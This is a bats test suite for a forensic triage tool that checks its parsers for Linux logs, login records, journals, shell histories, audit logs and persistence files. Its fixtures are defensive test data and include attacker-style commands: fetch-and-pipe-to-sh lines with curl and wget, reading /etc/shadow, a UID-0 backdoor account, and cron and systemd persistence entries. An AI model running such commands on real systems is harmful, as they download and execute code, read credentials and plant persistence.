#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# triage-parse's Linux parsers on the third-party Linux artifacts.  Oracles:
# utmpdump (x86-64 utmp/wtmp), a struct decoder written here (400-byte and
# big-endian layouts), journalctl -o json on a copy (journals), GNU date
# with TZ (local times), plaso's test expectations (ORACLES.md section 3)
# for syslog, ssh, cron, rsyslog, utmp, wtmp, dpkg, apt, bash and selinux.

load helpers

LX="$TRIAGE_TEST_DATA/artifacts/linux"
P="$LX/plaso"

setup() {
	[ -d "$LX" ] || skip "no Linux fixtures at $LX"
}

# Events of triage-parse on FILE (stdout), warnings in $stderr.
parse() {
	run --separate-stderr triage-parse "$@"
}

count() {
	printf '%s\n' "$output" | grep -c '"record":"event"' || true
}

@test "linux: the evidence is never touched: hashes and folder listings unchanged" {
	local before after lb la
	before=$(find "$LX" -type f -exec sha256sum {} + | sort)
	lb=$(find "$LX" | sort)
	parse "$LX"
	[ "$status" -eq 2 ]		# syslog.gz, selinux.log: lines skipped
	assert_jsonl "$output"
	after=$(find "$LX" -type f -exec sha256sum {} + | sort)
	la=$(find "$LX" | sort)
	[ "$before" = "$after" ]
	[ "$lb" = "$la" ]
	# every file was recognised
	[ "$(printf '%s\n' "$output" | jq -r .path | sort -u | wc -l)" -eq \
	    "$(find "$LX" -type f | wc -l)" ]
	# nothing left in /dev/shm by the journal parser
	! ls /dev/shm/triage-journal-* 2>/dev/null
}

@test "syslog: plaso's 16 events, relative years 0..2 from the mtime, 1 warning (the MMM line)" {
	local d f
	d=$(scratch)
	f="$d/syslog"
	cp "$P/syslog" "$f"
	# plaso: base year 2012 (the file's own comment); the last line is
	# two roll-overs later, in November: an mtime in December 2014.
	touch -d '2014-12-01 00:00:00Z' "$f"
	parse "$f"
	[ "$status" -eq 2 ]
	[ "$(count)" -eq 16 ]
	[ "$(printf '%s\n' "$stderr" | grep -c 'not a syslog line')" -eq 1 ]
	[[ "$stderr" == *"syslog: offset 603 (0x25b)"* ]]
	[ "$(sed -n 8p "$f" | cut -c1-3)" = MMM ]
	# relative years 0,0,0,0,0,0,0,0,1,1,1,1,2,2,2,2 from 2012
	run -0 jq -r -s 'map(.time[0:4]) | join(" ")' <<<"$output"
	[ "$output" = "2012 2012 2012 2012 2012 2012 2012 2012 2013 2013 2013 2013 2014 2014 2014 2014" ]
	parse "$f"
	run -0 jq -c -s '.[0] | [.time, .hostname, .reporter, .pid, .body, .year_inferred, .timezone]' <<<"$output"
	[ "$output" = '["2012-01-22T07:52:33Z","myhostname.myhost.com","client",30840,"INFO No new content in ímynd.dd.",true,"UTC"]' ]
	parse "$f"
	run -0 jq -r -s '.[6].time, .[9].time, .[9].pid, .[12].time' <<<"$output"
	[ "${lines[0]}" = "2012-02-29T01:15:43Z" ]
	[ "${lines[1]}" = "2013-03-23T23:01:18.123Z" ]	# plaso drops the .123
	[ "${lines[2]}" = 19 ]
	[ "${lines[3]}" = "2014-02-06T15:16:30Z" ]
	parse "$f"
	run -0 jq -r -s '.[11].body' <<<"$output"
	[ "$output" = "$(printf 'This is a multi-line message that screws up\n\tmany syslog parsers.')" ]
}

@test "syslog: cron lines are syslog:cron:task_run (plaso: 9 events)" {
	parse "$P/syslog_cron.log"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 9 ]
	run -0 jq -r -s '.[1] | .data_type, .username, .command, .time[5:]' <<<"$output"
	[ "${lines[0]}" = syslog:cron:task_run ]
	[ "${lines[1]}" = root ]
	[ "${lines[2]}" = 'sleep $(( 1 * 60 )); touch /tmp/afile.txt' ]
	[ "${lines[3]}" = "03-11T19:26:39Z" ]
}

@test "syslog: sshd lines (plaso: 9 events; login, failed_connection, opened_connection)" {
	parse "$P/syslog_ssh.log"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 9 ]
	run -0 jq -r -s 'map(.data_type) | join(",")' <<<"$output"
	[ "$output" = "syslog:line,syslog:ssh:login,syslog:ssh:login,syslog:ssh:failed_connection,syslog:ssh:opened_connection,syslog:ssh:failed_connection,syslog:ssh:login,syslog:ssh:login,syslog:ssh:login" ]
	parse "$P/syslog_ssh.log"
	run -0 jq -c -s '.[1] | [.address, .port, .username, .authentication_method, .fingerprint]' <<<"$output"
	[ "$output" = '["192.168.0.1",59229,"plaso","publickey","RSA 00:aa:bb:cc:dd:ee:ff:11:22:33:44:55:66:77:88:99"]' ]
	parse "$P/syslog_ssh.log"
	run -0 jq -c -s '[.[3].address, .[3].port, .[4].address, .[0].time[5:]]' <<<"$output"
	[ "$output" = '["001:db8:a0b:12f0::1",8759,"188.124.3.41","03-11T00:00:00Z"]' ]
}

@test "syslog: rsyslog RFC 3339 lines (plaso: 5 events, exact times, no year inference)" {
	parse "$P/syslog_rsyslog"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 5 ]
	run -0 jq -c -s '.[0] | [.time, .timestamp, .hostname, .reporter, .year_inferred, .timezone]' <<<"$output"
	[ "$output" = '["2020-05-31T00:00:45.698463Z",1590883245698463,"localhost","rsyslogd",null,null]' ]
}

@test "syslog: RFC 5424, ChromeOS, macOS, PRI and auth lines" {
	local d f
	d=$(scratch)
	f="$d/auth.log"
	cat > "$f" <<-'EOF'
	<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 [exampleSDID@32473 iut="3" eventSource="Application"] 'su root' failed for lonvick on /dev/pts/8
	2016-10-25T12:37:23.297265-07:00 INFO periodic_scheduler[13707]: cleanup_logs: job completed
	Mar  1 10:00:00 mac com.apple.xpc.launchd[1] <Notice>: Service exited
	<86>Mar  1 10:00:01 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow
	Mar  1 10:00:02 srv useradd[99]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0
	Mar  1 10:00:03 srv sshd[7]: Invalid user admin from 203.0.113.9 port 4242
	Mar  1 10:00:04 srv su[8]: (to root) alice on pts/0
	EOF
	touch -d '2020-06-01Z' "$f"
	parse "$f"
	[ "$status" -eq 0 ]
	[ -z "$stderr" ]
	[ "$(count)" -eq 7 ]
	run -0 jq -c -s '.[0] | [.time, .hostname, .reporter, .message_identifier, .severity, .facility, .structured_data, .body]' <<<"$output"
	[ "$output" = '["2003-10-11T22:14:15.003Z","mymachine.example.com","su","ID47","CRIT",4,"[exampleSDID@32473 iut=\"3\" eventSource=\"Application\"]","'"'"'su root'"'"' failed for lonvick on /dev/pts/8"]' ]
	parse "$f"
	run -0 jq -c -s '.[1] | [.time, .severity, .reporter, .pid, .hostname]' <<<"$output"
	[ "$output" = '["2016-10-25T19:37:23.297265Z","INFO","periodic_scheduler",13707,null]' ]
	parse "$f"
	run -0 jq -c -s '.[2] | [.time, .severity, .reporter, .pid, .hostname, .body]' <<<"$output"
	[ "$output" = '["2020-03-01T10:00:00Z","Notice","com.apple.xpc.launchd",1,"mac","Service exited"]' ]
	parse "$f"
	run -0 jq -c -s '.[3] | [.data_type, .username, .target_username, .command, .working_directory, .terminal, .severity, .facility]' <<<"$output"
	[ "$output" = '["linux:sudo:command","alice","root","/bin/cat /etc/shadow","/home/alice","pts/0","INFO",10]' ]
	parse "$f"
	run -0 jq -c -s '[.[4].data_type, .[4].username, .[4].uid, .[5].data_type, .[5].address, .[6].data_type, .[6].target_username]' <<<"$output"
	[ "$output" = '["linux:account:user_added","backdoor",1001,"syslog:ssh:invalid_user","203.0.113.9","linux:su:switch","root"]' ]
}

@test "syslog: -z converts local times with the tz database (oracle: GNU date)" {
	local d f want
	d=$(scratch)
	f="$d/messages"
	printf 'Jul  4 12:00:00 h p[1]: summer\nJan  5 12:00:00 h p[1]: winter\n' > "$f"
	touch -d '2021-02-01Z' "$f"
	parse -z America/New_York "$f"
	[ "$status" -eq 0 ]
	want=$(date -u -d @"$(TZ=America/New_York date -d '2020-07-04 12:00:00' +%s)" +%Y-%m-%dT%H:%M:%SZ)
	run -0 jq -r -s '.[0].time, .[0].timezone, .[1].time' <<<"$output"
	[ "${lines[0]}" = "$want" ]
	[ "${lines[0]}" = "2020-07-04T16:00:00Z" ]
	[ "${lines[1]}" = America/New_York ]
	[ "${lines[2]}" = "$(date -u -d @"$(TZ=America/New_York date -d '2021-01-05 12:00:00' +%s)" +%Y-%m-%dT%H:%M:%SZ)" ]
	parse -z No/Such_Zone "$f"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"No/Such_Zone"*"taken as UTC"* ]]
}

@test "syslog: a text file nobody recognises is not a flood of syslog events" {
	local d
	d=$(scratch)
	cp "$TRIAGE_SRCDIR/README.md" "$d/syslog"
	{ printf 'Mar  1 10:00:00 h p: one real line\n'; seq 1 50 | sed 's/^/just text /'; } > "$d/messages"
	parse "$d/syslog"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
	parse "$d/messages"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
}

@test "syslog.gz: gunzipped in memory; a truncated gzip gives what it holds, a warning and exit 2" {
	local d
	d=$(scratch)
	parse "$P/syslog.gz"
	[ "$status" -eq 2 ]			# its two bad lines
	[ "$(count)" -eq "$(zcat "$P/syslog.gz" | grep -c '^[A-Z][a-z][a-z] [ 0-9][0-9] [0-9:]\{8\}[ .:]')" ]
	head -c 400 "$P/syslog.gz" > "$d/syslog.1.gz"
	parse "$d/syslog.1.gz"
	[ "$status" -eq 2 ]
	[[ "$stderr" == *"syslog.1.gz: offset "*"gzip stream damaged or truncated"* ]]
	[ "$(count)" -gt 0 ]
}

@test "syslog: a 50 MB line is skipped with a warning naming its offset, the rest is read" {
	local d f
	d=$(scratch)
	f="$d/syslog"
	{
		printf 'Mar  1 10:00:00 h p[1]: before\n'
		printf 'Mar  1 10:00:01 h p[1]: '
		head -c 52428800 /dev/zero | tr '\0' A
		printf '\nMar  1 10:00:02 h p[1]: after\n'
	} > "$f"
	run --separate-stderr timeout 60 triage-parse "$f"
	[ "$status" -eq 2 ]
	[ "$(count)" -eq 2 ]
	[[ "$stderr" == *"offset 31 (0x1f): line of 52428824 bytes"* ]]
}

# utmpdump's line for each record: type pid id user line host addr time.
utmpdump_rows() {
	utmpdump "$1" 2>/dev/null | sed -n 's/^\[\([0-9]*\)\] \[\([0-9]*\)\] \[\(....\)\] \[\([^]]*\)\] \[\([^]]*\)\] \[\([^]]*\)\] \[\([^]]*\)\] \[\(.*\)\]$/\1|\2|\4|\5|\6|\7|\8/p' |
	    awk -F'|' '{ for (i = 3; i <= 6; i++) sub(/ +$/, "", $i); sub(/,/, ".", $7); sub(/\+00:00$/, "Z", $7); printf "%d|%d|%s|%s|%s|%s|%s\n", $1, $2, $3, $4, $5, $6, $7 }'
}

triage_rows() {
	triage-parse "$1" 2>/dev/null | jq -r '[.type, .pid, .username, .terminal, .hostname, .ip_address, .time] | map(tostring) | join("|")'
}

@test "utmp/wtmp (x86-64): every record equals utmpdump's; plaso's counts 14, 4, artemis' 13" {
	need_cmd utmpdump
	local f
	for f in "$P/utmp" "$P/wtmp.1" "$LX/artemis/wtmp"; do
		diff <(utmpdump_rows "$f") <(triage_rows "$f")
	done
	[ "$(triage_rows "$P/utmp" | wc -l)" -eq 14 ]
	[ "$(triage_rows "$P/wtmp.1" | wc -l)" -eq 4 ]
	[ "$(triage_rows "$LX/artemis/wtmp" | wc -l)" -eq 13 ]
	# plaso utmp idx2: LOGIN tty4 pid 1115 type 6 terminal_identifier 52
	parse "$P/utmp"
	run -0 jq -c -s '.[2] | [.username, .terminal, .pid, .type, .terminal_identifier, .time]' <<<"$output"
	[ "$output" = '["LOGIN","tty4",1115,6,52,"2013-12-13T14:45:09.000000Z"]' ]
	parse "$P/wtmp.1"
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"offset 1536 (0x600): 1 trailing bytes after the last record (all zero)"* ]]
}

@test "utmp: the 400-byte (aarch64, s390x) layouts in both byte orders equal a struct decoder's reading" {
	need_cmd python3
	local d lay
	d=$(scratch)
	# Re-encode artemis' wtmp as 400-byte LE and BE and 384-byte BE.
	python3 - "$LX/artemis/wtmp" "$d" <<-'EOF'
	import struct, sys
	src, out = sys.argv[1], sys.argv[2]
	data = open(src, 'rb').read()
	recs = [data[i:i + 384] for i in range(0, len(data) - 383, 384)]
	for name, wide, e in (('wtmp400le', 1, '<'), ('wtmp400be', 1, '>'), ('wtmp384be', 0, '>')):
	    with open(f'{out}/{name}', 'wb') as f:
	        for r in recs:
	            typ, pid = struct.unpack_from('<hxxi', r, 0)
	            term, ex, sess, sec, usec = struct.unpack_from('<hhiii', r, 332)
	            mid = r[8:332]
	            addr = r[348:364]
	            if wide:
	                f.write(struct.pack(e + 'hxxi', typ, pid) + mid + struct.pack(e + 'hhqqq', term, ex, sess, sec, usec) +
	                        addr + bytes(24))
	            else:
	                f.write(struct.pack(e + 'hxxi', typ, pid) + mid + struct.pack(e + 'hhiii', term, ex, sess, sec, usec) + addr + bytes(20))
	EOF
	[ "$(stat -c %s "$d/wtmp400le")" -eq $((13 * 400)) ]
	for lay in wtmp400le wtmp400be wtmp384be; do
		# the decoder: layout from the name, nothing shared with triage
		python3 - "$d/$lay" > "$d/$lay.want" <<-'EOF'
		import struct, sys, datetime
		p = sys.argv[1]
		size = 400 if '400' in p else 384
		e = '>' if p.endswith('be') else '<'
		d = open(p, 'rb').read()
		for i in range(0, len(d) - size + 1, size):
		    r = d[i:i + size]
		    typ, pid = struct.unpack_from(e + 'hxxi', r, 0)
		    if size == 400:
		        sec, usec = struct.unpack_from(e + 'qq', r, 344)
		        addr = r[360:376]
		    else:
		        sec, usec = struct.unpack_from(e + 'ii', r, 340)
		        addr = r[348:364]
		    s = lambda b: b.split(b'\0')[0].decode()
		    ip = '.'.join(str(x) for x in addr[:4])
		    t = datetime.datetime.fromtimestamp(sec, datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%S') + '.%06dZ' % usec
		    print('|'.join(map(str, (typ, pid, s(r[44:76]), s(r[8:40]), s(r[76:332]), ip, t))))
		EOF
		[ "$(wc -l < "$d/$lay.want")" -eq 13 ]
		diff "$d/$lay.want" <(triage_rows "$d/$lay")
	done
	parse "$d/wtmp400be"
	run -0 jq -r -s '.[0].layout' <<<"$output"
	[ "$output" = "400-byte big-endian (s390x)" ]
	diff <(triage_rows "$LX/artemis/wtmp") <(triage_rows "$d/wtmp400le")
}

@test "utmp: random bytes over a record: that record skipped with a warning naming its offset, exit 2" {
	local d
	d=$(scratch)
	cp "$LX/artemis/wtmp" "$d/wtmp"
	python3 -c "
import random, sys
random.seed(13)
f = open(sys.argv[1], 'r+b'); f.seek(5 * 384); f.write(bytes(random.randrange(256) for _ in range(384)))" "$d/wtmp"
	parse "$d/wtmp"
	[ "$status" -eq 2 ]
	[ "$(count)" -eq 12 ]
	[[ "$stderr" == *"wtmp: offset 1920 (0x780): record 5 is not a 384-byte little-endian (x86-64) utmp record"* ]]
}

@test "journal: equals journalctl -o json on a copy (410 entries, realtime, cursor, every field)" {
	need_cmd journalctl python3
	local d j
	d=$(scratch)
	j=$(ls "$LX"/artemis/*.journal)
	cp "$j" "$d/copy.journal"
	journalctl --file "$d/copy.journal" -o json > "$d/want.json"
	parse "$j"
	[ "$status" -eq 0 ]
	[ -z "$stderr" ]
	printf '%s\n' "$output" > "$d/got.json"
	python3 - "$d/want.json" "$d/got.json" <<-'EOF'
	import json, sys
	want = [json.loads(l) for l in open(sys.argv[1])]
	got = [json.loads(l) for l in open(sys.argv[2])]
	assert len(want) == len(got) == 410, (len(want), len(got))
	for w, g in zip(want, got):
	    assert int(w['__REALTIME_TIMESTAMP']) == g['timestamp'] == g['realtime_timestamp']
	    assert int(w['__MONOTONIC_TIMESTAMP']) == g['monotonic_timestamp']
	    assert w['__CURSOR'] == g['cursor']
	    for k, v in w.items():
	        if k.startswith('__'):
	            continue
	        assert g.get(k) == v, (k, v, g.get(k))
	    extra = [k for k in g if (k[0] == '_' or k.isupper()) and k not in w]
	    assert not extra, extra
	    assert g.get('body') == w.get('MESSAGE')
	    assert g.get('hostname') == w.get('_HOSTNAME')
	assert got[0]['cursor'].split(';')[1] == 'i=68d'     # seqnum 1677 (artemis)
	assert got[0]['timestamp'] == 1688346965559099
	assert got[0]['body'] == 'Queued start job for default target default.target.'
	EOF
}

@test "journal: a cycle in the entry arrays: no hang, a warning, exit 2" {
	need_cmd python3
	local d
	d=$(scratch)
	cp "$LX"/artemis/*.journal "$d/cyc.journal"
	# point the last entry array's next pointer back at the first
	python3 - "$d/cyc.journal" <<-'EOF'
	import struct, sys
	f = open(sys.argv[1], 'r+b')
	d = f.read()
	first = struct.unpack_from('<Q', d, 176)[0]
	o, seen = first, 0
	while True:
	    nxt = struct.unpack_from('<Q', d, o + 16)[0]
	    seen += 1
	    if nxt == 0:
	        break
	    o = nxt
	assert seen > 1, seen
	f.seek(o + 16)
	f.write(struct.pack('<Q', first))
	EOF
	cp "$d/cyc.journal" "$d/copy.journal"
	run --separate-stderr timeout 60 triage-parse "$d/cyc.journal"
	[ "$status" -eq 2 ]
	[[ "$stderr" == *"cyc.journal: the header counts 410 entries, "*" read"* ]]
	[ "$(count)" -lt 410 ]
	# as many as journalctl reads from the same damage
	if command -v journalctl >/dev/null; then
		[ "$(count)" -eq "$(journalctl --file "$d/copy.journal" -o json 2>/dev/null | wc -l)" ]
	fi
}

@test "dpkg.log (plaso: 4 events) in local time; apt history.log (plaso: 10 runs)" {
	parse "$P/dpkg.log"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 4 ]
	run -0 jq -r -s '.[0] | .time, .body, .data_type' <<<"$output"
	[ "${lines[0]}" = "2009-02-25T11:45:23Z" ]
	[ "${lines[1]}" = "conffile /etc/X11/Xsession keep" ]
	[ "${lines[2]}" = "dpkg:line" ]
	parse -z Europe/Berlin "$P/dpkg.log"
	run -0 jq -r -s '.[0].time' <<<"$output"
	[ "$output" = "$(date -u -d @"$(TZ=Europe/Berlin date -d '2009-02-25 11:45:23' +%s)" +%Y-%m-%dT%H:%M:%SZ)" ]
	parse "$P/apt_history.log"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 10 ]
	run -0 jq -r -s '.[2] | .time, .end_time, (.install | length > 0), .command' <<<"$output"
	[ "${lines[0]}" = "2019-07-11T12:20:55Z" ]
	[ "${lines[1]}" = "2019-07-11T12:21:28Z" ]
	[ "${lines[2]}" = true ]
	[[ "${lines[3]}" == "apt-get -y install python-pip"* ]]
}

@test "bash_history (plaso: 4 entries, multi-line command kept whole); without #EPOCH one event at the mtime" {
	local d
	d=$(scratch)
	parse "$P/bash_history"
	[ "$status" -eq 0 ]
	[ "$(count)" -eq 4 ]
	run -0 jq -r -s '.[0].time, .[0].command, .[3].time' <<<"$output"
	[ "${lines[0]}" = "2013-10-01T12:36:17Z" ]
	[ "${lines[1]}" = "/usr/lib/plaso" ]
	[ "${lines[2]}" = "2021-06-10T22:30:36Z" ]
	parse "$P/bash_history"
	run -0 jq -r -s '.[3].command' <<<"$output"
	[ "$output" = "$(tail -n 4 "$P/bash_history")" ]
	printf 'ls -la\ncurl -O http://x/p.sh\nsh p.sh\n' > "$d/.bash_history"
	touch -d '2022-01-02 03:04:05Z' "$d/.bash_history"
	parse "$d/.bash_history"
	[ "$status" -eq 0 ]
	run -0 jq -c '[.time, .timestamp_desc, .commands, .time_from_file]' <<<"$output"
	[ "$output" = '["2022-01-02T03:04:05Z","File Modification Time",["ls -la","curl -O http://x/p.sh","sh p.sh"],true]' ]
}

@test "zsh extended history and fish history" {
	local d
	d=$(scratch)
	printf ': 1457771210:0;ls -la\n: 1457771230:12;make \\\n  all\n: 1457771299:1;exit\n' > "$d/.zsh_history"
	parse "$d/.zsh_history"
	[ "$status" -eq 0 ]
	run -0 jq -c -s 'map([.time, .command, .elapsed_seconds, .data_type])' <<<"$output"
	[ "$output" = '[["2016-03-12T08:26:50Z","ls -la",0,"shell:zsh:history"],["2016-03-12T08:27:10Z","make \\\n  all",12,"shell:zsh:history"],["2016-03-12T08:28:19Z","exit",1,"shell:zsh:history"]]' ]
	printf -- '- cmd: ls\n  when: 1577836800\n- cmd: echo a\\\\nb\n  when: 1577836801\n  paths:\n    - /tmp/x\n' > "$d/fish_history"
	parse "$d/fish_history"
	[ "$status" -eq 0 ]
	run -0 jq -c -s 'map([.time, .command, .paths, .data_type])' <<<"$output"
	[ "$output" = '[["2020-01-01T00:00:00Z","ls",null,"fish:history:entry"],["2020-01-01T00:00:01Z","echo a\\nb",["/tmp/x"],"fish:history:entry"]]' ]
}

@test "selinux.log (plaso: 7 events, 4 warnings); audit EXECVE and USER_CMD decoded" {
	local d
	d=$(scratch)
	parse "$P/selinux.log"
	[ "$status" -eq 2 ]
	[ "$(count)" -eq 7 ]
	[ "$(printf '%s\n' "$stderr" | grep -c 'not an audit record')" -eq 4 ]
	run -0 jq -c -s '.[0] | [.audit_type, .serial, .time, .pid, .data_type]' <<<"$output"
	[ "$output" = '["LOGIN",94983,"2012-05-24T07:40:01.174Z",25443,"linux:audit:event"]' ]
	parse "$P/selinux.log"
	run -0 jq -c -s '[.[5].data_type, .[6].exe, .[6].audit_type]' <<<"$output"
	[ "$output" = '["selinux:line","/bin/ls","SYSCALL"]' ]
	cat > "$d/audit.log" <<-'EOF'
	type=EXECVE msg=audit(1700000000.123:77): argc=3 a0="wget" a1="-qO-" a2=687474703A2F2F782F792E7368207C207368
	type=USER_CMD msg=audit(1700000001.5:78): pid=9 uid=1000 auid=1000 ses=2 msg='cwd="/root" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/0 res=success'
	EOF
	parse "$d/audit.log"
	[ "$status" -eq 0 ]
	run -0 jq -c -s 'map([.time, .audit_type, .command_line])' <<<"$output"
	[ "$output" = '[["2023-11-14T22:13:20.123Z","EXECVE","wget -qO- http://x/y.sh | sh"],["2023-11-14T22:13:21.5Z","USER_CMD","cat /etc/shadow"]]' ]
	parse "$d/audit.log"
	run -0 jq -r -s '.[1] | .exe, .res, .cwd' <<<"$output"
	[ "${lines[0]}" = /usr/bin/sudo ]
	[ "${lines[1]}" = success ]
	[ "${lines[2]}" = /root ]
}

@test "damaged input: every fixture cut at several offsets and with flipped bytes: no crash, no hang" {
	need_cmd python3
	local d f n cut s
	d=$(scratch)
	for f in "$P"/* "$LX"/artemis/*; do
		n=$(stat -c %s "$f")
		for cut in 17 383 $((n / 2)) $((n - 1)); do
			[ "$cut" -lt "$n" ] || continue
			head -c "$cut" "$f" > "$d/$(basename "$f")"
			run timeout 60 triage-parse -q "$d/$(basename "$f")"
			[ "$status" -le 2 ] || { echo "$f cut $cut: $status"; false; }
		done
		python3 -c "
import random, sys
random.seed(7)
b = bytearray(open(sys.argv[1], 'rb').read())
for _ in range(max(1, len(b) // 200)):
    b[random.randrange(len(b))] ^= 1 << random.randrange(8)
open(sys.argv[2], 'wb').write(b)" "$f" "$d/$(basename "$f")"
		run timeout 60 triage-parse -q "$d/$(basename "$f")"
		[ "$status" -le 2 ] || { echo "$f flipped: $status"; false; }
	done
}

@test "persistence: crontabs, a systemd unit, authorized_keys (oracle: ssh-keygen -l), passwd, shadow" {
	need_cmd ssh-keygen
	local d
	d=$(scratch)
	mkdir -p "$d/etc/cron.d" "$d/spool"
	printf 'SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /usr/local/bin/implant --quiet\n' > "$d/etc/crontab"
	printf '*/5 * * * * curl -s http://x/a | sh\n@reboot /tmp/.x\n' > "$d/spool/alice"
	printf '0 3 * * 1-5 backup /usr/bin/backup.sh --all\n' > "$d/etc/cron.d/backup"
	printf '[Unit]\nDescription=Totally legit\n[Service]\nExecStart=/usr/bin/python3 /opt/x.py\nExecStart=/bin/true\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n' > "$d/evil.service"
	ssh-keygen -q -t ed25519 -N '' -C 'bob@host' -f "$d/k1" </dev/null
	ssh-keygen -q -t rsa -b 2048 -N '' -C 'eve' -f "$d/k2" </dev/null
	{ cat "$d/k1.pub"; printf 'from="10.0.0.0/8",no-pty,command="/bin/echo hi there" '; cat "$d/k2.pub"; } > "$d/spool/authorized_keys"
	rm -f "$d"/k1* "$d"/k2*
	printf 'root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/tmp:/bin/sh\n' > "$d/etc/passwd"
	printf 'root:$6$abc$def:19000:0:99999:7:::\nbob:!$y$j9T$x$y:19500:0:99999:7:::\nnew::::::::\n' > "$d/etc/shadow"
	touch -d '2024-01-01Z' "$d/etc/cron.d/backup" "$d/etc/crontab" "$d/spool/alice" "$d/evil.service" "$d/spool/authorized_keys" "$d/etc/passwd" "$d/etc/shadow"
	parse "$d"
	[ "$status" -eq 0 ]
	[ -z "$stderr" ]
	run -0 jq -c -s 'map(select(.data_type == "linux:cron:entry") | [.schedule, .username, .command])' <<<"$output"
	[ "$output" = '[["0 3 * * 1-5","backup","/usr/bin/backup.sh --all"],["17 *\t* * *","root","cd / && run-parts --report /etc/cron.hourly"],["@reboot","root","/usr/local/bin/implant --quiet"],["*/5 * * * *",null,"curl -s http://x/a | sh"],["@reboot",null,"/tmp/.x"]]' ]
	parse "$d"
	run -0 jq -c -s 'map(select(.data_type == "linux:systemd:unit") | [.unit, .description, .exec_start, .user, .wanted_by, .time])' <<<"$output"
	[ "$output" = '[["evil.service","Totally legit",["/usr/bin/python3 /opt/x.py","/bin/true"],"nobody","multi-user.target","2024-01-01T00:00:00Z"]]' ]
	parse "$d"
	diff <(ssh-keygen -lf "$d/spool/authorized_keys" | awk '{ print $2 " " $3 }') \
	    <(jq -r 'select(.data_type == "linux:ssh:authorized_key") | .fingerprint + " " + .comment' <<<"$output")
	run -0 jq -r 'select(.data_type == "linux:ssh:authorized_key" and .comment == "eve") | .options' <<<"$output"
	[ "$output" = 'from="10.0.0.0/8",no-pty,command="/bin/echo hi there"' ]
	parse "$d"
	run -0 jq -c -s 'map(select(.data_type == "linux:passwd:account") | [.username, .uid, .shell])' <<<"$output"
	[ "$output" = '[["root",0,"/bin/bash"],["backdoor",0,"/bin/sh"]]' ]
	parse "$d"
	run -0 jq -c -s 'map(select(.data_type == "linux:shadow:entry") | [.username, .time, .password_status, .hash_type])' <<<"$output"
	[ "$output" = '[["root","2022-01-08T00:00:00Z","set","$6$"],["bob","2023-05-23T00:00:00Z","locked","$y$"]]' ]
	# the hash itself is never written
	parse "$d"
	[[ "$output" == *'"hash_type":"$6$"'* ]]
	[[ "$output" != *'abc$def'* ]]
}
